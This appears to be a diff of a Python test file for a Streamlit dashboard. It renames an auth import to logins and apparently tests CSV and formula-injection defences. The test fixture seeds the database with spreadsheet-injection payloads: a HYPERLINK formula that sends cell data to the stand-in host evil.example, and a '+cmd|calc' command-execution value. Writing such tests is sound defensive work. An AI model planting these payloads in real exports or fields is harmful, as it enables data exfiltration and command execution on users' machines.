@@ -19,8 +19,7 @@ from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 from dashboard.core import audit, csv_safe, storage
-from dashboard.access import auth
-
+from dashboard.access import logins
 ROOT = Path(__file__).resolve().parent.parent
 NAV = ROOT / "dashboard" / "web" / "navigation.py"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -98,7 +97,7 @@ def poisoned(demo_copy, monkeypatch):
     con.execute("update friends set display_name = $f", {"f": FORMULA})
     con.execute("update inflow_routes set name_ja = '@SUM(1+1)', name_en = '+cmd|calc'")
     monkeypatch.setenv("DASHBOARD_SECRETS_FILE", str(demo_copy.parent / "none.toml"))
-    auth.check_login(con.cursor(), FORMULA, "guess", "203.0.113.9")   # stored hashed since issue 12
+    logins.check_login(con.cursor(), FORMULA, "guess", "203.0.113.9")   # stored hashed since issue 12
     audit.record(con.cursor(), FORMULA, "segment.save", "segment:" + FORMULA, {"name": FORMULA})
     con.close()
     monkeypatch.setenv("DASHBOARD_DB", str(demo_copy))
